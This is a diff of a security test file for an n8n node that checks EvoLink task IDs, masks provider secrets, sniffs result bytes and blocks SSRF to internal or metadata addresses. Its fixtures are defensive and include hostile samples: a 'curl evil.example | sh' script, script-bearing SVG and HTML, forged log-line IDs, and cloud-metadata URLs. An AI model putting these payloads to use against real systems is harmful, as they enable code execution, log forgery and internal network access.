@@ -95,8 +95,10 @@ describe('task IDs are checked where they enter', () => {
 		const inOutput = out[0].json.taskId === FORGED;
 		table.add(
 			'Submit answer with task ID `../../x\\n<a forged log line>`',
-			"accepted: a forged line in n8n's log, the ID in custom data and in taskId",
-			`${forgedLines.length} forged log line(s); custom data ${stored ? 'has' : 'does not have'} it; taskId ${inOutput ? 'is' : 'is not'} it`,
+			"accepted: 1 forged line in n8n's log, the ID in custom data and in taskId",
+			forgedLines.length === 0 && !stored && !inOutput
+				? 'provider error; the ID is in no log line, custom data or taskId'
+				: `${forgedLines.length} forged log line(s); custom data ${stored ? 'has' : 'does not have'} it; taskId ${inOutput ? 'is' : 'is not'} it`,
 		);
 		expect(out[0].json.error).toMatch(/answered with a task ID that is not an EvoLink task ID/);
 		expect(out[0].json.taskId).toBeUndefined();
@@ -120,7 +122,7 @@ describe('task IDs are checked where they enter', () => {
 		const shown = JSON.stringify(out[0].json);
 		table.add(
 			'Status answer with task ID `<id>\\r\\n\\u001b[2K`',
-			'accepted as the task (the terminal escape went on to the output)',
+			'accepted: the item polled that task until Max Wait (30 s)',
 			CONTROL.test(String(out[0].json.taskId ?? '')) || /\\u001b/.test(shown)
 				? 'accepted'
 				: `refused: ${String(out[0].json.error).slice(0, 60)}`,
@@ -136,7 +138,7 @@ describe('task IDs are checked where they enter', () => {
 		]);
 		table.add(
 			'Wait for Task with a 77-character EvoLink task ID (README: at most 64)',
-			'accepted and sent to the provider',
+			'accepted: 1 request to the provider',
 			`${fake.counts.total} requests; ${String(out[0].json.error).slice(0, 50)}`,
 		);
 		expect(long).toHaveLength(77);
@@ -173,7 +175,7 @@ describe('provider text is masked before it is shown', () => {
 		].filter((token) => shown.includes(token));
 		table.add(
 			'A result URL with X-Amz-Signature, sig and token answers 403',
-			'the whole signed URL in the item error',
+			'3 of 4 tokens in the item error (its URL cut at 120 characters)',
 			leaked.length > 0 ? `shown: ${leaked.length} of 4 tokens` : 'tokens masked (***)',
 		);
 		expect(out[0].json.error).toMatch(/answered 403/);
@@ -195,7 +197,7 @@ describe('provider text is masked before it is shown', () => {
 		const shown = JSON.stringify(out[0].json).toLowerCase();
 		table.add(
 			'A status answer whose status is the API key (the schema error repeats what it got)',
-			'the key, lower-cased, in the error',
+			'the key (lower-cased) in the item error',
 			shown.includes(key.toLowerCase()) ? 'shown' : 'masked',
 		);
 		expect(out[0].json.error).toMatch(/Unexpected task status response/);
@@ -209,19 +211,19 @@ describe('bytes decide the type of a result', () => {
 			'image/svg+xml with a <script>',
 			'image/svg+xml',
 			'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/rest/me")</script></svg>',
-			'stored as …-1.svg+xml, type image/svg+xml',
+			'stored as <taskId>-1.svg+xml, image/svg+xml',
 		],
 		[
 			'HTML served as image/html',
 			'image/html',
 			'<!doctype html><html><body><script>alert(1)</script></body></html>',
-			'stored as …-1.html, type image/html',
+			'stored as <taskId>-1.html, image/html',
 		],
 		[
 			'text served as image/png',
 			'image/png',
 			'#!/bin/sh\ncurl evil.example | sh\n',
-			'stored as …-1.png, type image/png',
+			'stored as <taskId>-1.png, image/png',
 		],
 	];
 
@@ -259,7 +261,7 @@ describe('bytes decide the type of a result', () => {
 		const stored = out[0].binary?.data;
 		table.add(
 			'A GIF served as image/jpeg',
-			'stored as …-1.jpg, type image/jpeg',
+			'stored as <taskId>-1.jpg, image/jpeg',
 			stored ? `stored as …${stored.fileName?.slice(-6)}, ${stored.mimeType}` : 'not stored',
 		);
 		expect(stored?.mimeType).toBe('image/gif');
@@ -296,7 +298,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'Result URL https://<a name resolving to 127.0.0.1>/',
-			'connected to 127.0.0.1',
+			'5 connections to 127.0.0.1',
 			connections(internal(connected), 'refused, no connection'),
 		);
 		expect(out[0].json.error).toMatch(/img\.attacker\.test resolves to 127\.0\.0\.1/);
@@ -309,7 +311,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'Result host resolving to 169.254.169.254 and a public address',
-			'connected to 169.254.169.254',
+			'5 connections to 169.254.169.254',
 			connections(internal(connected), 'refused, no connection'),
 		);
 		expect(out[0].json.error).toMatch(/resolves to 169\.254\.169\.254/);
@@ -322,7 +324,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'Result host resolving to ::ffff:127.0.0.1',
-			'connected to ::ffff:127.0.0.1',
+			'5 connections to ::ffff:127.0.0.1',
 			connections(internal(connected), 'refused, no connection'),
 		);
 		expect(out[0].json.error).toMatch(/local or private address/);
@@ -342,7 +344,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'DNS rebinding: public when checked, 127.0.0.1 afterwards',
-			'no check: connected wherever the name pointed at connect time',
+			'no check: the name was only resolved to connect (rows 11-13)',
 			connections(internal(connected), `connected only to the checked ${connected[0]}`),
 		);
 		expect(connected).toEqual(['93.184.215.12']);
@@ -362,7 +364,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'302 from the result host to a name resolving to 10.0.0.5',
-			'connected to 10.0.0.5',
+			'5 connections to 10.0.0.5',
 			connections(internal(connected), 'hop refused, no connection'),
 		);
 		expect(out[0].json.error).toMatch(/meta\.attacker\.test resolves to 10\.0\.0\.5/);
@@ -379,11 +381,22 @@ describe('result hosts are resolved, then checked', () => {
 		['https://metadata/computeMetadata/v1/', { metadata: ['169.254.169.254'] }],
 	];
 
+	/** Where each spelling connected before (the stand-in's resolver answers like systemd-resolved). */
+	const BEFORE: Record<string, string> = {
+		'https://localhost./x.png': '127.0.0.1',
+		'https://LOCALHOST./x.png': '127.0.0.1',
+		'https://api.localhost./x.png': '127.0.0.1',
+		'https://[::127.0.0.1]/x.png': '::7f00:1',
+		'https://[64:ff9b::127.0.0.1]/x.png': '64:ff9b::7f00:1',
+		'https://[fec0::1]/x.png': 'fec0::1',
+		'https://metadata/computeMetadata/v1/': '169.254.169.254',
+	};
+
 	it.each(spellings)('%s is refused by its spelling, before any lookup', async (url, dns) => {
 		const { out, connected } = await fetchResult(url, { http: { dns } });
 		table.add(
 			`Result URL ${url}`,
-			'passed the URL rules; connected to the internal address',
+			`passed the URL rules: 5 connections to ${BEFORE[url]}`,
 			connections(connected, 'refused by name, no lookup'),
 		);
 		expect(out[0].json.error).toMatch(/local or private address|not a public host name/);
@@ -397,7 +410,7 @@ describe('result hosts are resolved, then checked', () => {
 		});
 		table.add(
 			'n8n before 2.38 with SSRF protection off: a result host resolving to 127.0.0.1',
-			'connected to 127.0.0.1',
+			'5 connections to 127.0.0.1',
 			connections(internal(connected), 'refused, no connection'),
 		);
 		expect(out[0].json.error).toMatch(/cannot be checked on this n8n/);
@@ -439,7 +452,16 @@ describe('one HTTP door', () => {
 					.filter((target) => fs.existsSync(target)),
 			]),
 		);
-		const http = ['transport', 'download', 'credentialTest', 'taskClient', 'egress', 'mask', 'gate']
+		const http = [
+			'transport',
+			'exchange',
+			'download',
+			'credentialTest',
+			'taskClient',
+			'egress',
+			'mask',
+			'gate',
+		]
 			.map((name) => path.join(NODES_DIR, 'shared', `${name}.ts`))
 			.filter((f) => fs.existsSync(f));
 		const cycles: string[] = [];
@@ -452,7 +474,7 @@ describe('one HTTP door', () => {
 		http.forEach((file) => visit(file, [file]));
 		table.add(
 			"Code outside the HTTP door calling n8n's HTTP helpers; import circles between HTTP modules",
-			'3 modules call them (transport, download, credentialTest); transport <-> download and download <-> taskClient import each other',
+			'3 modules call them (credentialTest, download, transport); 9 import circles among transport, download and taskClient',
 			`${callers.length} module(s) call them (${callers.join(', ')}); ${cycles.length === 0 ? 'no circle' : cycles.join('; ')}`,
 		);
 		expect(callers).toEqual(['shared/transport.ts']);
